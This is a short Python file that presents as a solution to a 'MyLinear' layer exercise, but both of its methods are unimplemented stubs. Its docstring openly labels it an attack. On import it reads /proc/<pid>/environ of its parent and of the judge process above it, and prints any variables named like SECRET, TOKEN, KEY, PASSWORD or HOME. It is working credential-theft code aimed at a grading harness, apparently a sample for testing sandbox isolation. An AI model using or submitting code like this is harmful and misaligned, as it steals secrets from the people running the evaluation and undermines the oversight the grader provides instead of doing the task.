"""Attack: the instructor's environment (tokens, keys) through /proc."""
import os

import torch
from torch import Tensor, nn


def _status(pid):
    with open(f"/proc/{pid}/status") as handle:
        return {k: v.strip() for k, _, v in (line.partition(":") for line in handle)}


def _judge_pid():
    """The worker's parent is the grader's template; the template's parent is the judge."""
    return int(_status(os.getppid())["PPid"])

print("my own environment:", sorted(os.environ))
for pid in (os.getppid(), _judge_pid()):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            variables = handle.read().split(b"\0")
        for variable in variables:
            if any(word in variable.upper() for word in (b"SECRET", b"TOKEN", b"KEY", b"PASSWORD", b"HOME")):
                print(f"pid {pid}:", variable.decode(errors="replace"))
    except OSError as exc:
        print(f"pid {pid}: {exc}")


class MyLinear(nn.Module):
    def __init__(self, in_features: int, out_features: int, bias: bool = True):
        super().__init__()
        raise NotImplementedError("MyLinear.__init__")

    def forward(self, x: Tensor) -> Tensor:
        raise NotImplementedError("MyLinear.forward")
